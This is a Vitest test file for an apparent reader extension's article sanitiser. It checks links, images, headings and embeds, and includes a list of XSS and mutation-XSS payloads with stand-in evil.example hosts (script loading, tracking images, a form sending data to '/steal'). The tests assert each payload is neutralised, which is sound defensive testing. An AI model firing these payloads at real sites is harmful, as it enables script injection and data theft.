import { describe, expect, it } from 'vitest';
import { PLACEHOLDER_CLASS, sanitizeArticle } from '../../lib/reader/sanitize-article';

const BASE = 'https://news.example/world/story.html';

function clean(html: string, title = 'A title nobody repeats'): HTMLDivElement {
  const host = document.createElement('div');
  host.append(
    sanitizeArticle(html, {
      baseUrl: BASE,
      title,
      describeImage: (alt) => `Image: ${alt}`,
      undescribedImage: 'Image without description',
    }),
  );
  return host;
}

/** Everything the reader may show: reading markup and the placeholders Lede adds. */
const SAFE_TAGS = new Set(
  `a abbr address b bdi bdo blockquote br caption cite code col colgroup dd del dfn div dl dt em figcaption
   figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub sup
   table tbody td tfoot th thead time tr u ul var wbr`.split(/\s+/),
);
const SAFE_ATTRS = new Set(['href', 'src', 'alt', 'title', 'lang', 'dir', 'colspan', 'rowspan', 'scope', 'datetime', 'start', 'reversed', 'target', 'rel', 'class']);

/** The properties every sanitised article has, whatever went in. */
function expectInert(host: HTMLElement): void {
  for (const el of host.querySelectorAll('*')) {
    expect(SAFE_TAGS, `<${el.localName}> is not reading markup`).toContain(el.localName);
    expect(el.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const attr of el.attributes) {
      expect(SAFE_ATTRS, `${attr.name} on <${el.localName}>`).toContain(attr.name);
    }
    if (el.hasAttribute('class')) expect(el.getAttribute('class')).toBe(PLACEHOLDER_CLASS);
    if (el.hasAttribute('src')) expect(el.getAttribute('src')).toMatch(/^data:image\/(png|gif|jpeg|webp|avif);base64,/);
  }
  for (const a of host.querySelectorAll('[href]')) {
    expect(a.localName).toBe('a');
    expect(new URL(a.getAttribute('href')!).protocol).toMatch(/^(https?|mailto):$/);
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    expect(a.getAttribute('target')).toBe('_blank');
  }
  expect(host.innerHTML).not.toMatch(/javascript:|vbscript:|<script|<style|<iframe|<svg|<math|url\(/i);
}

/** Payloads from public XSS cheat sheets and DOMPurify's own mutation-XSS findings. */
const PAYLOADS: Record<string, string> = {
  'script element': '<p>Text</p><script>alert(1)</script>',
  'script with src': '<script src="https://evil.example/x.js"></script><p>Text</p>',
  'img onerror': '<img src=x onerror="alert(1)">',
  'svg onload': '<svg onload="alert(1)"><circle r="4"/></svg>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg xlink javascript': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg animate href': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  'svg image': '<svg><image href="https://evil.example/track.png"/></svg>',
  'svg foreignObject iframe': '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'math mglyph style mxss': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'math href': '<math href="javascript:alert(1)">x</math>',
  'noscript title mxss': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'javascript link': '<a href="javascript:alert(1)">Read more</a>',
  'mixed-case javascript link': '<a href="JaVaScRiPt:alert(1)">Read more</a>',
  'entity javascript link': '<a href="&#106;avascript:alert(1)">Read more</a>',
  'tab-split javascript link': '<a href="jav&#x09;ascript:alert(1)">Read more</a>',
  'leading-space javascript link': '<a href=" \n javascript:alert(1)">Read more</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">Read more</a>',
  'data html link': '<a href="data:text/html,<script>alert(1)</script>">Read more</a>',
  'iframe': '<iframe src="https://evil.example/"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  'frameset': '<frameset onload="alert(1)"><frame src="https://evil.example/">',
  'object': '<object data="https://evil.example/x.swf"></object>',
  'embed': '<embed src="https://evil.example/x.swf">',
  'form': '<form action="https://evil.example/steal"><input name="q" value="secret"><button>Send</button></form>',
  'formaction': '<button formaction="javascript:alert(1)">Go</button>',
  'input autofocus': '<input autofocus onfocus="alert(1)">',
  'isindex': '<isindex action="javascript:alert(1)" type="image">',
  'style element': '<style>body { background: url(https://evil.example/x) }</style><p>Text</p>',
  'style import': '<style>@import "https://evil.example/x.css";</style>',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'inline style url': '<p style="background:url(https://evil.example/x)">Text</p>',
  'inline style expression': '<p style="width: expression(alert(1))">Text</p>',
  'event handlers': '<div onclick="alert(1)" onmouseover="alert(1)">Text</div>',
  'body onload': '<body onload="alert(1)"><p>Text</p></body>',
  'details ontoggle': '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
  'marquee onstart': '<marquee onstart="alert(1)">x</marquee>',
  'video source onerror': '<video><source onerror="alert(1)"></video>',
  'video poster': '<video poster="https://evil.example/poster.png"></video>',
  'audio src': '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'base href': '<base href="javascript:/"><a href="x">x</a>',
  'table background': '<table background="https://evil.example/x.png"><tr><td>Cell</td></tr></table>',
  'img srcset': '<img srcset="https://evil.example/x.png 2x" alt="Map">',
  'picture source': '<picture><source srcset="https://evil.example/x.webp"><img src="https://evil.example/x.jpg" alt="Map"></picture>',
  'svg data image': '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="Logo">',
  'template': '<template><img src=x onerror="alert(1)"></template>',
  'custom element': '<x-widget onclick="alert(1)">x</x-widget>',
  'ping': '<a href="https://news.example/" ping="https://evil.example/ping">Home</a>',
  'aria and data': '<div aria-hidden="true" data-track="1" role="presentation">Text</div>',
  'id and class clobbering': '<p id="article" class="skip-links" name="controls">Text</p><form id="controls"></form>',
  'null byte javascript': '<a href="java\u0000script:alert(1)">x</a>',
  'textarea breakout': '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'comment breakout': '<!--><img src=x onerror=alert(1)>-->',
  'cdata': '<![CDATA[<img src=x onerror=alert(1)>]]>',
};

describe('sanitizeArticle: hostile HTML', () => {
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`neutralises ${name}`, () => {
      expectInert(clean(payload));
    });
  }

  it('keeps the text around the payloads', () => {
    const host = clean('<p>Before <img src=x onerror=alert(1) alt="A map"> after.</p><script>alert(1)</script><p>Next paragraph.</p>');
    expect(host.textContent).toContain('Before Image: A map after.');
    expect(host.textContent).toContain('Next paragraph.');
    expect(host.textContent).not.toContain('alert(1)');
  });

  it('drops the content of controls but keeps the text of unwrapped containers', () => {
    const host = clean('<section><aside><p>Kept</p></aside></section><form><button>Subscribe</button><textarea>Typed</textarea></form>');
    expect(host.textContent).toBe('Kept');
  });
});

describe('sanitizeArticle: links', () => {
  it('resolves relative links against the article and opens them without opener or referrer', () => {
    const a = clean('<p><a href="../sport/">Sport</a> <a href="//other.example/x">Other</a></p>').querySelectorAll('a');
    expect(a[0]!.getAttribute('href')).toBe('https://news.example/sport/');
    expect(a[1]!.getAttribute('href')).toBe('https://other.example/x');
    for (const link of a) {
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
      expect(link.getAttribute('target')).toBe('_blank');
    }
  });

  it('keeps mailto links and the text of links it drops', () => {
    const host = clean('<p><a href="mailto:desk@news.example">Write to us</a> <a href="javascript:void(0)">Share</a> <a href="tel:123">Call</a></p>');
    expect(host.querySelector('a[href]')!.getAttribute('href')).toBe('mailto:desk@news.example');
    expect(host.querySelectorAll('a[href]')).toHaveLength(1);
    expect(host.textContent).toBe('Write to us Share Call');
  });

  it('drops relative links when the article has no address', () => {
    const host = document.createElement('div');
    host.append(sanitizeArticle('<a href="/x">x</a>', { baseUrl: null, title: '', describeImage: (a) => a, undescribedImage: '' }));
    expect(host.querySelector('a')!.hasAttribute('href')).toBe(false);
  });
});

describe('sanitizeArticle: images', () => {
  it('replaces remote images with their descriptions, in the figure with its caption', () => {
    const host = clean('<figure><img src="https://cdn.example/a.jpg" alt="  The bridge\n at dusk "><figcaption>Photo: staff</figcaption></figure>');
    expect(host.querySelector('img')).toBeNull();
    const figure = host.querySelector('figure')!;
    expect(figure.querySelector(`.${PLACEHOLDER_CLASS}`)!.textContent).toBe('Image: The bridge at dusk');
    expect(figure.querySelector('figcaption')!.textContent).toBe('Photo: staff');
  });

  it('marks images without a description', () => {
    const host = clean('<figure><img src="a.jpg"></figure><figure><img src="b.jpg" alt=""></figure>');
    expect([...host.querySelectorAll(`.${PLACEHOLDER_CLASS}`)].map((p) => p.textContent)).toEqual([
      'Image without description',
      'Image without description',
    ]);
  });

  it('keeps an image inside a sentence inline and gives a loose one its own figure', () => {
    const host = clean('<p>A <img src="i.png" alt="map"> here.</p><div><img src="big.jpg" alt="Crowd"></div>');
    expect(host.querySelector('p > span')!.textContent).toBe('Image: map');
    expect(host.querySelector('div > figure > span')!.textContent).toBe('Image: Crowd');
  });

  it('shows inline raster images, which need no request, with a description', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const host = clean(`<img src="${png}" alt="A dot"><img src="${png}">`);
    const imgs = host.querySelectorAll('img');
    expect(imgs).toHaveLength(2);
    expect(imgs[0]!.getAttribute('alt')).toBe('A dot');
    expect(imgs[1]!.getAttribute('alt')).toBe('Image without description');
  });
});

describe('sanitizeArticle: outline', () => {
  it('drops a heading that repeats the title and renumbers the rest under the reader’s h1', () => {
    const host = clean('<h1>The Title</h1><p>a</p><h4>Part</h4><p>b</p><h6>Detail</h6><h3>Next part</h3><h2>Last</h2>', 'The  Title');
    expect([...host.querySelectorAll('h1,h2,h3,h4,h5,h6')].map((h) => `${h.localName} ${h.textContent}`)).toEqual([
      'h2 Part',
      'h3 Detail',
      'h2 Next part',
      'h2 Last',
    ]);
  });

  it('keeps a heading’s language and direction when it renames it', () => {
    const heading = clean('<h5 lang="fa" dir="rtl">بخش</h5>').querySelector('h2')!;
    expect(heading.getAttribute('lang')).toBe('fa');
    expect(heading.getAttribute('dir')).toBe('rtl');
  });
});

describe('sanitizeArticle: shown images and embeds', () => {
  const shown = (html: string, allowed: string[], extra: Partial<Parameters<typeof sanitizeArticle>[1]> = {}) => {
    const host = document.createElement('div');
    host.append(
      sanitizeArticle(html, {
        baseUrl: BASE,
        title: 'A title nobody repeats',
        describeImage: (alt) => `Image: ${alt}`,
        undescribedImage: 'Image without description',
        imageSource: (url) => (allowed.includes(url) ? `blob:chrome-extension://lede/${allowed.indexOf(url)}` : null),
        fullSizeImage: (name) => `Open full size: ${name}`,
        describeEmbed: (kind, title) => (title ? `${kind}: ${title} — open in the page` : `${kind} — open in the page`),
        ...extra,
      }),
    );
    return host;
  };

  it('shows only the images it is allowed, from the address it is given, linked at full size', () => {
    const host = shown(
      '<figure><img src="/m/a.jpg" alt="A ferry"><figcaption>At dawn</figcaption></figure><p>Text <img src="https://evil.example/t.png" alt="Tracker"></p>',
      ['https://news.example/m/a.jpg'],
    );
    const img = host.querySelector('img')!;
    expect(img.getAttribute('src')).toBe('blob:chrome-extension://lede/0');
    expect(img.getAttribute('alt')).toBe('A ferry');
    const link = img.closest('a')!;
    expect(link.getAttribute('href')).toBe('https://news.example/m/a.jpg');
    expect(link.getAttribute('aria-label')).toBe('Open full size: A ferry');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(host.querySelectorAll('img')).toHaveLength(1);
    expect(host.textContent).toContain('Image: Tracker');
  });

  it('names an image without alt by its caption, or marks it undescribed; never makes a description up', () => {
    const host = shown(
      '<figure><img src="/m/a.jpg"><figcaption>The harbour at dawn</figcaption></figure><figure><img src="/m/b.jpg"></figure>',
      ['https://news.example/m/a.jpg', 'https://news.example/m/b.jpg'],
    );
    const [captioned, bare] = [...host.querySelectorAll('img')];
    expect(captioned!.hasAttribute('alt')).toBe(false);
    expect(host.querySelector(`#${captioned!.getAttribute('aria-labelledby')}`)!.textContent).toBe('The harbour at dawn');
    expect(bare!.getAttribute('alt')).toBe('Image without description');
  });

  it('never puts a remote address in an <img>, even one it is given back', () => {
    const host = shown('<figure><img src="/m/a.jpg" alt="A ferry"></figure>', [], { imageSource: (url) => url });
    expect(host.querySelectorAll('img')).toHaveLength(0);
    expect(host.textContent).toBe('Image: A ferry');
  });

  it('shows nothing remote without an image source (text only)', () => {
    const host = shown('<figure><img src="/m/a.jpg" alt="A ferry"></figure>', [], { imageSource: undefined });
    expect(host.querySelectorAll('img')).toHaveLength(0);
    expect(host.textContent).toBe('Image: A ferry');
    expectInert(host);
  });

  it('never shows a hostile image, whatever the image source allows', () => {
    for (const payload of ['<img src="javascript:alert(1)">', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<img srcset="https://news.example/m/a.jpg 1x">', '<img src="x" onerror="alert(1)">']) {
      const host = shown(payload, ['https://news.example/m/a.jpg']);
      expect(host.querySelectorAll('img'), payload).toHaveLength(0);
      expect(host.innerHTML).not.toMatch(/onerror|srcset|javascript:|svg/i);
    }
  });

  it('turns players and frames into a labelled link back to the page, and keeps an embedded post’s text with one', () => {
    const host = shown(
      '<figure><iframe src="https://www.youtube.com/embed/x" title="Flythrough" data-lede-block="b7"></iframe><figcaption>Cap</figcaption></figure>' +
        '<p>Listen: <audio src="/a.mp3"><source src="/a.ogg">Your browser cannot play this.</audio></p>' +
        '<iframe src="https://maps.example/embed"></iframe>' +
        '<blockquote class="twitter-tweet" data-lede-block="b9"><p>The tunnel opens today</p><a href="https://twitter.com/x/status/1">May 1</a></blockquote>',
      [],
    );
    expect(host.querySelectorAll('iframe, audio, video, source')).toHaveLength(0);
    const links = [...host.querySelectorAll('a.lede-embed')].map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('data-block')]);
    expect(links).toEqual([
      ['video: Flythrough — open in the page', BASE, 'b7'],
      ['audio — open in the page', BASE, null],
      ['frame — open in the page', BASE, null],
      // The post's link goes to its place in the page too, where extraction marked it.
      ['post — open in the page', BASE, 'b9'],
    ]);
    expect(host.textContent).not.toContain('Your browser cannot play this');
    expect(host.querySelector('blockquote')!.textContent).toContain('The tunnel opens today');
  });

  it('keeps tables’ header cells and captions, and preformatted lines', () => {
    const host = shown('<table><caption>Fares</caption><tr><th scope="col">Cabin</th></tr><tr><td>79</td></tr></table><pre>a  b\nc  d</pre>', []);
    expect(host.querySelector('caption')!.textContent).toBe('Fares');
    expect(host.querySelector('th')!.getAttribute('scope')).toBe('col');
    expect(host.querySelector('pre')!.textContent).toBe('a  b\nc  d');
  });
});
